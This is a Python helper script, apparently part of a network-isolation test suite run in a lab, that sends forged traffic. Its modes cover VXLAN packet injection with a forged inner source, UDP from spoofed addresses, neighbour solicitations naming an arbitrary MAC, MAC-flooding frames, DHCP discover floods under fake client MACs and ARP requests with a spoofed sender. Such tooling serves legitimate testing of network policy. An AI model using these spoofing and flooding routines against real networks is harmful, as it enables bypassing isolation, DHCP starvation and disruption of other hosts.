"""Forged traffic for the attack suite, run in a lab workload.

  tcp HOST PORT                          exit 0 if a TCP connection opens within 2 s
  vxlan NODE VNI MAC IP PORT             one VXLAN packet to NODE:4789 whose inner
                                         frame is UDP to IP:PORT at MAC, from a
                                         forged inner source
  udp SRC DST SPORT DPORT                one UDP datagram from SRC (an address the
                                         workload holds, forged or not)
  listen PORT SECONDS                    prints how many UDP datagrams arrived
  ns TARGET FROM MAC                     a neighbour solicitation for TARGET sent
                                         from FROM with MAC as its link-layer option
  macs COUNT                             COUNT broadcast frames, each from a source
                                         MAC of its own
  discover COUNT                         COUNT DHCP discovers, every other one from a
                                         client MAC of its own, the rest from eth0's
  arp TARGET SENDER                      an ARP request for TARGET from SENDER; exit 0
                                         and the answering MAC if one answers in 2 s
"""
import socket
import struct
import sys
import time

kind = sys.argv[1]
if kind == "tcp":
    family = socket.AF_INET6 if ":" in sys.argv[2] else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(2)
    try:
        sock.connect((sys.argv[2], int(sys.argv[3])))
    except OSError as e:
        print(f"refused: {e}")
        sys.exit(1)
    print("connected")
elif kind == "vxlan":
    node, vni, mac, ip, port = sys.argv[2:7]
    inner_ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + 8 + 6, 0, 0, 64, 17, 0,
        socket.inet_aton("10.0.0.250"), socket.inet_aton(ip))
    checksum = 0
    for i in range(0, 20, 2):
        checksum += (inner_ip[i] << 8) + inner_ip[i + 1]
    checksum = (checksum & 0xFFFF) + (checksum >> 16)
    inner_ip = inner_ip[:10] + struct.pack("!H", ~checksum & 0xFFFF) + inner_ip[12:]
    inner_udp = struct.pack("!HHHH", 5555, int(port), 8 + 6, 0) + b"forged"
    frame = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("02000000f00d") + b"\x08\x00"
    header = struct.pack("!II", 0x08000000, int(vni) << 8)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(5):
        sock.sendto(header + frame + inner_ip + inner_udp, (node, 4789))
        time.sleep(0.05)
elif kind == "udp":
    src, dst, sport, dport = sys.argv[2:6]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((src, int(sport)))
    for _ in range(5):
        sock.sendto(b"forged", (dst, int(dport)))
        time.sleep(0.05)
elif kind == "listen":
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", int(sys.argv[2])))
    sock.settimeout(0.2)
    deadline = time.time() + float(sys.argv[3])
    count = 0
    while time.time() < deadline:
        try:
            sock.recvfrom(2048)
            count += 1
        except socket.timeout:
            pass
    print(count)
elif kind == "ns":
    target, source, mac = sys.argv[2:5]
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    sock.bind((source, 0, 0, socket.if_nametoindex("eth0")))
    message = struct.pack("!BBHI", 135, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, target)
    message += struct.pack("!BB", 1, 1) + bytes.fromhex(mac.replace(":", ""))
    for _ in range(3):
        sock.sendto(message, (target, 0, 0, socket.if_nametoindex("eth0")))
        time.sleep(0.05)
elif kind == "macs":
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind(("eth0", 0))
    for i in range(int(sys.argv[2])):
        # Unicast, locally administered: a MAC any workload may claim.
        source = bytes([0x02, 0x5E]) + i.to_bytes(4, "big")
        sock.send(b"\xff" * 6 + source + b"\x88\xb5" + bytes(46))
        if i % 200 == 199:
            # Within the kernel's backlog of received frames per CPU.
            time.sleep(0.01)
elif kind == "discover":
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    sock.bind(("0.0.0.0", 68))
    own = open("/sys/class/net/eth0/address").read().strip()
    for i in range(int(sys.argv[2])):
        chaddr = bytes.fromhex(own.replace(":", "")) if i % 2 else bytes([2, 0x77]) + i.to_bytes(4, "big")
        head = struct.pack("!BBBBIHHIIII", 1, 1, 6, 0, i, 0, 0x8000, 0, 0, 0, 0)
        options = b"\x63\x82\x53\x63" + bytes([53, 1, 1, 255])
        sock.sendto(head + chaddr + bytes(10 + 192) + options, ("255.255.255.255", 67))
        if i % 100 == 99:
            time.sleep(0.01)
elif kind == "arp":
    target, sender = socket.inet_aton(sys.argv[2]), socket.inet_aton(sys.argv[3])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    sock.bind(("eth0", 0))
    mac = sock.getsockname()[4]
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, sender, bytes(6), target)
    sock.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)
    sock.settimeout(0.2)
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        try:
            frame = sock.recv(2048)
        except socket.timeout:
            continue
        op, answerer, answered = struct.unpack("!H6s4s", frame[20:32])
        if op == 2 and answered == target:
            print("answered by " + answerer.hex(":"))
            sys.exit(0)
    print("no answer")
    sys.exit(1)
else:
    sys.exit(f"unknown kind {kind}")
